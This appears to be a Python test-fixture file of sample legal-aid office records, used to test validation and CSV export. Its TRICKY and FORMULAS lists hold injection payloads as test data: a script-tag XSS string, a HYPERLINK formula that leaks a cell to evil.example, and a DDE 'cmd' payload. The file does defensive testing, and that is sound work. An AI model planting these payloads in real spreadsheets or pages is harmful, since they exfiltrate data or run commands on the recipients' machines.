"""Office samples shared by the office-data tests: a complete office and tricky values."""

from __future__ import annotations


def office(**changes) -> dict:
    """A complete, valid office as `validate_office` returns it."""
    data = {
        "slug": "kyiv-podil",
        "name": "Громадська приймальня на Подолі",
        "organization": "ГО «Правова ініціатива»",
        "address": "вул. Сагайдачного, 25",
        "city": "Київ",
        "region": "м. Київ",
        "postcode": "04070",
        "country": "UA",
        "lat": 50.46234,
        "lon": 30.52071,
        "phone": "+380 44 555 01 23",
        "email": "podil@example.org",
        "website": "https://example.org/podil",
        "opening_hours": "Mo-Fr 09:00-13:00,14:00-18:00; PH off",
        "languages": ["uk", "en"],
        "categories": ["family", "housing"],
        "accessibility": ["wheelchair"],
        "description": "Безкоштовні консультації.",
        "demo": False,
        "kind": "room",
        "serves": [],
    }
    data.update(changes)
    return data


TRICKY = [
    office(),
    office(
        slug="tricky-1",
        name='Офіс "Лапки", кома; крапка з комою <script>alert(1)</script>',
        address="вул. Кома, 1, кв. 2",
        description='Перший рядок\nДругий рядок; з "лапками", комами\nі <b>HTML</b>',
        organization="O'Brien & Sons",
    ),
    office(
        slug="no-coordinates",
        lat=None,
        lon=None,
        phone="",
        email="",
        website="",
        opening_hours="",
        languages=[],
        categories=[],
        accessibility=[],
        description="",
        organization="",
        region="",
        postcode="",
        demo=True,
    ),
    office(
        slug="almaty",
        city="Алмати",
        country="KZ",
        phone="+7 727 355 01 23",
        languages=["kk", "ru", "crh"],
    ),
    office(
        slug="crimea-online",
        name="Онлайн-приймальня для мешканців Криму",
        kind="remote",
        serves=["UA-43", "UA-40"],
        address="",
        postcode="",
        lat=None,
        lon=None,
        accessibility=["online", "hearing_loop"],
        opening_hours="Mo-Fr 10:00-18:00; PH off",
    ),
]

# Text a spreadsheet would run as a formula (or read as a number), and text that really
# starts with the apostrophe the CSV export puts before such cells.
FORMULAS = [
    office(
        slug="formulas",
        name='=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        organization="@SUM(1+1)*cmd|' /C calc'!A0",
        address="-2+3, вул. Мінусова",
        region="+Київська",
        phone="+380 44 555 01 23",
        description="- перший пункт\n- другий пункт",
        lat=-33.9,
        lon=-70.6,
        country="CL",
        city="Santiago",
        postcode="'8320000",
    ),
    office(
        slug="apostrophes",
        name="'=already quoted'",
        organization="'O'Brien",
        address="''",
        region="'",
        phone="+7 727 355 01 23",
        country="KZ",
        city="Алмати",
    ),
]
